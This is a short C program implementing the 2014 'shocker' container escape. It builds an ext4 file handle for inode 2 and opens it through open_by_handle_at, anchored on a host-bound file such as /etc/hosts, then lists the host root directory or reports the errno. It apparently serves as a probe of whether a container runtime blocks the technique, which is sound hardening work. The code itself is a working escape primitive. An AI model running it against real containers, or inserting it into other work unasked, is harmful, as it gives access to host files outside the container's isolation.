/* The "shocker" escape (2014): open_by_handle_at(2) opens any inode of a filesystem by number, given a
 * descriptor of anything mounted from it. In a container, a file the runtime bound in from the host
 * (/etc/hosts) is on the host's filesystem, and inode 2 is that filesystem's root.
 *   shocker FILE  ->  "handle TYPE BYTES" (what name_to_handle_at says FILE's handles look like), then
 *                     "open_by_handle_at ok" + "entry NAME" lines (the host root's listing) or
 *                     "open_by_handle_at errno N NAME"
 * The handle is built for ext2/3/4 (FILEID_INO32_GEN: inode number, generation 0). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define FILEID_INO32_GEN 1

int main(int argc, char **argv) {
    if (argc != 2) return 2;
    struct file_handle *h = malloc(sizeof *h + MAX_HANDLE_SZ);
    int mount_id;
    h->handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, argv[1], h, &mount_id, 0) == 0)
        printf("handle %d %u\n", h->handle_type, h->handle_bytes);
    else
        printf("name_to_handle_at errno %d %s\n", errno, strerrorname_np(errno));
    int mfd = open(argv[1], O_RDONLY | O_CLOEXEC);
    if (mfd < 0) {
        printf("open errno %d %s\n", errno, strerrorname_np(errno));
        return 1;
    }
    unsigned root[2] = {2, 0};
    h->handle_type = FILEID_INO32_GEN;
    h->handle_bytes = sizeof root;
    memcpy(h->f_handle, root, sizeof root);
    int fd = (int)syscall(SYS_open_by_handle_at, mfd, h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0) {
        printf("open_by_handle_at errno %d %s\n", errno, strerrorname_np(errno));
        return 0;
    }
    printf("open_by_handle_at ok\n");
    DIR *d = fdopendir(fd);
    struct dirent *e;
    while (d && (e = readdir(d)))
        if (strcmp(e->d_name, ".") && strcmp(e->d_name, "..")) printf("entry %s\n", e->d_name);
    return 0;
}
